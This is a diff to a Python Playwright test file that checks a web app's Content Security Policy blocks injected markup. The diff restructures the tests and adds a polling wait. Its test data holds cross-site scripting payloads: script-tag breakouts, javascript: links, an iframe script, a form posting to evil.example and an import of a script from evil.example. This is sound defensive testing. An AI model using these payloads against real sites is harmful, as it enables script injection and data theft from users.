@@ -17,7 +17,8 @@ from playwright.sync_api import BrowserContext, Page, expect
 from headrace.model.errors import HeadraceError
 from headrace.server import Server, Service, Tokens
 from tests.dialects.storm.clusters import WordCount
-from tests.server.browsers import looking
+from tests.scale import FULL
+from tests.server.browsers import WAIT, looking
 from tests.server.page.test_page import LIMITS, NOON, READ, choose, rows
 from tests.server.scripted import Shop, shop
 
@@ -26,7 +27,7 @@ TEMPLATE = "{{ 7 * 7 }} ${window.pwned='yes'}"
 SCRIPT = "'\"`</style></script><script>window.pwned='yes'</script>"
 LINK = "javascript:window.pwned='yes'"
 OPTION = ":window.pwned='yes'"
-NAMES = (IMAGE, TEMPLATE, SCRIPT, LINK, OPTION)
+NAMES = (IMAGE, TEMPLATE, SCRIPT, LINK, OPTION) if FULL else (IMAGE, SCRIPT, OPTION)
 
 
 def spoil(status: dict[str, Any]) -> dict[str, Any]:
@@ -122,7 +123,7 @@ def hover(page: Page) -> None:
 def test_names_are_text_on_every_panel(browser: BrowserContext, system: Shop, port: int) -> None:
     service = replace(system.service, topologies=NamedTopologies())
     with served(browser, service, port) as page:
-        expect(page.locator(".hr-graph.hr-across").nth(4)).to_be_visible()
+        expect(page.locator(".hr-graph.hr-across").nth(len(NAMES) - 1)).to_be_visible()
         hover(page)
         assert_is_text(page, *NAMES)
         page.get_by_role("tab", name="Views").click()
@@ -172,21 +173,19 @@ def served(browser: BrowserContext, service: Service, port: int) -> Iterator[Pag
         yield page
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        f"document.body.insertAdjacentHTML('beforeend', {IMAGE!r})",
-        "document.body.append(Object.assign(document.createElement('script'), {text: \"window.pwned = 'yes'\"}))",
-        "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.pwned=1\">x</a>');"
-        " bad.click()",
-        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>top.pwned=1</script>\"></iframe>')",
-        "document.head.insertAdjacentHTML('beforeend', '<style>body { --pwned: yes }</style>')",
-        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example\"></form>');"
-        " document.forms[document.forms.length - 1].submit()",
-        "import('https://evil.example/x.js').catch(() => {})",
-    ],
+ATTACKS = (
+    f"document.body.insertAdjacentHTML('beforeend', {IMAGE!r})",
+    "document.body.append(Object.assign(document.createElement('script'), {text: \"window.pwned = 'yes'\"}))",
+    "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.pwned=1\">x</a>'); bad.click()",
+    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>top.pwned=1</script>\"></iframe>')",
+    "document.head.insertAdjacentHTML('beforeend', '<style>body { --pwned: yes }</style>')",
+    "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example\"></form>');"
+    " document.forms[document.forms.length - 1].submit()",
+    "import('https://evil.example/x.js').catch(() => {})",
 )
-def test_markup_that_got_into_the_page_runs_nothing(browser: BrowserContext, port: int, attack: str) -> None:
+
+
+def test_markup_that_got_into_the_page_runs_nothing(browser: BrowserContext, port: int) -> None:
     with Server(Service({}, {}), port=port, limits=LIMITS, page=True) as server:
         page = browser.new_page()
         refused: list[str] = []
@@ -195,11 +194,15 @@ def test_markup_that_got_into_the_page_runs_nothing(browser: BrowserContext, por
         page.goto(server.url)
         expect(page.get_by_text("There are no views; declare one").first).to_be_visible()
         assert refused == []
-        page.evaluate(f"() => {{ {attack} }}")
-        page.wait_for_function("() => new Promise((resolve) => setTimeout(() => resolve(true), 200))")
-        assert any("Content Security Policy" in text for text in refused), refused
-        assert page.evaluate("window.pwned") is None
-        assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--pwned')") == ""
+        for attack in ATTACKS:
+            refused.clear()
+            page.evaluate(f"() => {{ {attack} }}")
+            tries = iter(range(WAIT // 100))  # a busy browser says late what it has refused
+            while not any("Content Security Policy" in text for text in refused):
+                assert next(tries, None) is not None, (attack, refused)
+                page.wait_for_timeout(100)
+            assert page.evaluate("window.pwned") is None, attack
+            assert page.evaluate("getComputedStyle(document.body).getPropertyValue('--pwned')") == "", attack
         page.close()
 
 
